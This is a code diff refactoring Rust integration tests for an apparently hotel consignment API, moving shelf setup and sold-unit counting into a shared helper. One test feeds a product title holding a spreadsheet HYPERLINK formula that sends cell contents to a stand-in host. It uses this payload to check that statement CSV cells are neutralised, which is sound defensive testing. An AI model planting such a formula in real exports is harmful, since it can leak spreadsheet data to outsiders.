@@ -7,62 +7,12 @@ use reqwest::StatusCode;
 use serde_json::{Value, json};
 
 use crate::both_backends;
-use crate::support::{Account, TestApp, fields, problem};
+use crate::consignment_rules::{sold, stocked_shelf_with};
+use crate::support::{TestApp, fields, problem};
 use kriya::domain::consignment::Period;
 
-/// A seller, an active hotel, an agreement at 10 % and `units` of one variant on the shelf,
-/// consigned at 50 000 rupiah each.
-struct Shelf {
-    seller: Account,
-    hotel: Account,
-    hotel_id: String,
-    agreement: String,
-    product_id: String,
-    variant_id: String,
-}
-
+/// What `stocked_shelf_with` consigns each unit at.
 const CONSIGNED_AT: i64 = 50_000;
-
-async fn shelf_with(app: &TestApp, units: i64, product: Value) -> Shelf {
-    let seller = app.active_seller().await;
-    let (hotel, hotel_id) = app.active_hotel().await;
-    let product = app.create_product(&seller, product).await;
-    let product_id = product["id"].as_str().unwrap().to_owned();
-    let variant_id = product["variants"][0]["id"].as_str().unwrap().to_owned();
-    let agreement = app.agreement(&seller, &hotel, &hotel_id, 1000, 30).await;
-    app.restock(&seller, &product_id, &variant_id, units).await;
-    let c = app
-        .dispatch(&seller, &agreement, &variant_id, units, CONSIGNED_AT)
-        .await;
-    let res = app
-        .post(
-            &format!("/v1/consignments/{}/receive", c["id"].as_str().unwrap()),
-            Some(&hotel.token),
-            json!({}),
-        )
-        .await;
-    assert_eq!(res.status(), StatusCode::OK);
-    Shelf {
-        seller,
-        hotel,
-        hotel_id,
-        agreement,
-        product_id,
-        variant_id,
-    }
-}
-
-/// Units sold at hotels, from the sale lines.
-fn sold(app: &TestApp) -> i64 {
-    use diesel::prelude::*;
-    use kriya::db::schema::hotel_sale_lines::dsl::*;
-    app.db(|c| {
-        hotel_sale_lines
-            .select(diesel::dsl::sum(quantity))
-            .first::<Option<i64>>(c)
-    })
-    .unwrap_or(0)
-}
 
 /// Moves the receipt of every lot back in time, as if the goods had arrived then: the API
 /// records receipts at the moment they happen, so a test of past months starts here.
@@ -88,7 +38,7 @@ fn sale(variant_id: &str, quantity: i64, price: i64, sold_at: Option<DateTime<Ut
 
 both_backends! {
     async fn a_sale_cannot_fall_outside_every_statement(app) {
-        let s = shelf_with(&app, 6, json!({"price_idr": 850_000})).await;
+        let s = stocked_shelf_with(&app, 6, json!({"price_idr": 850_000})).await;
         let sales = format!("/v1/hotels/{}/sales", s.hotel_id);
         let token = Some(s.hotel.token.as_str());
         let ancient: DateTime<Utc> = "1999-12-01T00:00:00Z".parse().unwrap();
@@ -132,7 +82,7 @@ both_backends! {
     }
 
     async fn every_bad_line_of_a_sale_is_named(app) {
-        let s = shelf_with(&app, 4, json!({})).await;
+        let s = stocked_shelf_with(&app, 4, json!({})).await;
         // A second variant of another product on the same shelf.
         let other = app.create_product(&s.seller, json!({})).await;
         let (pid, vid) = (other["id"].as_str().unwrap(), other["variants"][0]["id"].as_str().unwrap());
@@ -151,7 +101,7 @@ both_backends! {
     }
 
     async fn the_payee_records_the_payout_once_the_month_is_closed(app) {
-        let s = shelf_with(&app, 2, json!({})).await;
+        let s = stocked_shelf_with(&app, 2, json!({})).await;
         let statement = |p: Period| format!("/v1/consignment-agreements/{}/statements/{p}", s.agreement);
         // This month still takes sales: it cannot be closed yet.
         let this_month = Period::containing(Utc::now());
@@ -181,7 +131,7 @@ both_backends! {
 
     async fn statement_csv_cells_cannot_run_as_formulas(app) {
         let title = r#"=HYPERLINK("https://x.example/?"&A1,"open")"#;
-        let s = shelf_with(&app, 2, json!({"title": title})).await;
+        let s = stocked_shelf_with(&app, 2, json!({"title": title})).await;
         let res = app.post(&format!("/v1/hotels/{}/sales", s.hotel_id), Some(&s.hotel.token), sale(&s.variant_id, 1, 60_000, None)).await;
         assert_eq!(res.status(), StatusCode::CREATED);
         let period = Period::containing(Utc::now());
